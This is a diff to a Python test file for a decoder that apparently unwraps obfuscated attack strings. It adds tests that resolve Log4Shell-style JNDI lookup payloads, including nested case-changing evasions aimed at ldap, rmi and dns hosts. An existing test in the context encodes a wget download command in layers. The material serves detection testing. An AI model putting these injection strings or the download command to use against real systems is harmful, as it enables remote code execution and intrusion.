@@ -112,7 +112,8 @@ def test_what_cannot_be_inflated_says_so(broken: bytes) -> None:
 
 @given(st.binary(max_size=200) | st.text("%u&#x;\\+0123456789abcdef{},$IFS", max_size=200).map(str.encode))
 def test_nothing_grows(data: bytes) -> None:
-    made = [decode.percent(data), decode.html_entities(data), decode.backslashes(data), decode.ifs(data)]
+    made = [decode.percent(data), decode.html_entities(data), decode.backslashes(data), decode.ifs(data),
+            decode.lookups(data)[0]]  # fmt: skip
     made += [decode.braces(data), *decode.base64_runs(data), *decode.hex_runs(data)]
     assert all(len(text) <= len(data) for text in made)
     everything = list(decode.layers(data, texts_max=6, bytes_max=500))
@@ -125,3 +126,18 @@ def test_layers_reach_what_is_wrapped_three_times() -> None:
     inner = b"wget http://198.51.100.7/x"
     wrapped = b"cmd=" + base64.b64encode(inner).replace(b"=", b"%3D").replace(b"%", b"&#37;")
     assert inner in list(decode.layers(wrapped))
+
+
+@pytest.mark.parametrize(
+    ("text", "resolved", "urls"),
+    [
+        (b"${jndi:ldap://h/x}", b"jndi:ldap://h/x ", ("ldap://h/x",)),
+        (b"a ${${lower:J}n${lower:D}i:${::-r}m${env:X:-i}:/h:1099/x} b", b"a jndi:rmi://h:1099/x  b", ("rmi://h:1099/x",)),
+        (b"${jndi:dns:h} ${jndi:DNS://h} ${jndi:file:///x}", b"jndi:dns://h  jndi:dns://h  ", ("dns://h",)),
+        (b"${date:'j'}${sys:user.home}$${", b"j$${", ()),
+        (b"${jndi:ldap://${hostName}.h/${java:os}}", b"jndi:ldap://h/ ", ("ldap://h/",)),
+        (b"no lookups", b"no lookups", ()),
+    ],
+)  # fmt: skip
+def test_lookups(text: bytes, resolved: bytes, urls: tuple[str, ...]) -> None:
+    assert decode.lookups(text) == (resolved, urls)
